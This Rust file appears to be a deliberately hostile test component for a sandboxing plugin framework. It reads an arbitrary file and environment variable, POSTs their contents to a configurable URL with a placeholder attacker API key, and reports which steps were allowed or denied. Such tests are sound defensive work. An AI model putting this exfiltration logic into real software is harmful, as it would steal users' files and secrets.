//! Reads a file and a variable that are none of its business, sends them away with an attacker's key, and then says what it
//! was answered. Its configuration is any JSON in whose last text `file=`, `variable=`, `url=`, `origin=`, `header=`, `value=`, `method=`,
//! `purpose=`, `bytes=` and `fields=` stand. Each value ends at a space or a quote; `~20` in it is the byte 0x20.

use std::collections::BTreeMap;

use wif_guest_kit::types::{
    Access, Clock, Event, Failure, FailureCode, FileProtection, FileRequest, Header, HttpRequest, NumberedTask, Outcome, Output,
    PendingReason, Purpose, Start, Task,
};
use wif_guest_kit::{Behaviour, component, saying};

struct Exfiltrating {
    configuration: String,
    stolen: Vec<String>,
    /// By the number of the task.
    answers: BTreeMap<u32, String>,
}

component!(Exfiltrating);

impl Behaviour for Exfiltrating {
    fn open(configuration: &str, _: &Start) -> Self {
        Self { configuration: configuration.to_owned(), stolen: Vec::new(), answers: BTreeMap::new() }
    }

    fn step(&mut self, _: &Clock, event: &Event) -> Output {
        let mut output = saying(Access::Pending(PendingReason::Discovering));
        match event {
            Event::Finished(result) => self.answered(result.number, &result.outcome),
            Event::Woken if self.answers.is_empty() => {
                let path = self.value("file");
                let file = FileRequest { path, max_bytes: 65_536, protection: FileProtection::Any };
                output.tasks.push(NumberedTask { number: 1, task: Task::ReadFile(file) });
                output.tasks.push(NumberedTask { number: 2, task: Task::ReadVariable(self.value("variable")) });
            }
            _ => {}
        }
        if matches!(event, Event::Finished(_)) && self.answers.len() == 2 {
            output.tasks.push(NumberedTask { number: 3, task: Task::SendRequest(self.request()) });
        }
        if self.answers.len() == 3 {
            output.access = Access::Failed(Failure {
                code: FailureCode::Configuration,
                message: self.answers.values().cloned().collect::<Vec<_>>().join(", "),
                action: String::new(),
                retry_in_ms: None,
                rotation_in_ms: None,
                status: None,
                request_id: None,
            });
        }
        output
    }
}

impl Exfiltrating {
    /// The last one counts, for what comes before `says` is the configuration.
    fn value(&self, key: &str) -> String {
        let found = self.configuration.rsplit([' ', '"']).find_map(|word| word.strip_prefix(key)?.strip_prefix('='));
        unescaped(found.unwrap_or_default())
    }

    fn value_or(&self, key: &str, otherwise: &str) -> String {
        Some(self.value(key)).filter(|value| !value.is_empty()).unwrap_or_else(|| otherwise.to_owned())
    }

    fn answered(&mut self, number: u32, outcome: &Outcome) {
        let (answer, stolen) = match outcome {
            Outcome::Content(content) => ("content", content.as_str()),
            Outcome::Denied(_) => ("denied", ""),
            Outcome::Response(_) => ("response", ""),
            _ => ("other", ""),
        };
        let mut answer = answer.to_owned();
        if let Outcome::Response(response) = outcome {
            // What of the answer's header came this far.
            response.headers.iter().for_each(|header| answer.push_str(&format!(" {}", header.name)));
        }
        self.answers.insert(number, answer);
        self.stolen.push(stolen.to_owned());
    }

    fn request(&self) -> HttpRequest {
        let mut headers = vec![Header { name: "content-type".to_owned(), value: "application/json".to_owned() }];
        let header = self.value("header");
        let fields = self.value("fields").parse().unwrap_or(2);
        while !header.is_empty() && headers.len() < fields {
            headers.push(Header { name: header.clone(), value: self.value_or("value", "sk-ant-api03-of-the-attacker") });
        }
        let mut body = format!("stolen: {}", self.stolen.join(" "));
        let bytes = self.value("bytes").parse().unwrap_or(0_usize);
        body.push_str(&"x".repeat(bytes.saturating_sub(body.len())));
        let purpose = self.value_or("purpose", "exchange");
        HttpRequest {
            purpose: match purpose.strip_prefix("source:") {
                Some(source) => Purpose::Source(source.to_owned()),
                None if purpose == "refresh" => Purpose::Refresh,
                None => Purpose::Exchange,
            },
            method: self.value_or("method", "POST"),
            url: self.value("url"),
            origin: self.value("origin"),
            headers,
            body,
            timeout_ms: 5_000,
            max_response_bytes: 1_000,
        }
    }
}

fn unescaped(text: &str) -> String {
    let mut parts = text.split('~');
    let mut bytes = parts.next().unwrap_or_default().as_bytes().to_vec();
    for part in parts {
        let code = part.get(..2).and_then(|digits| u8::from_str_radix(digits, 16).ok());
        match code {
            Some(code) => {
                bytes.push(code);
                bytes.extend_from_slice(&part.as_bytes()[2..]);
            }
            None => bytes.extend_from_slice(format!("~{part}").as_bytes()),
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}
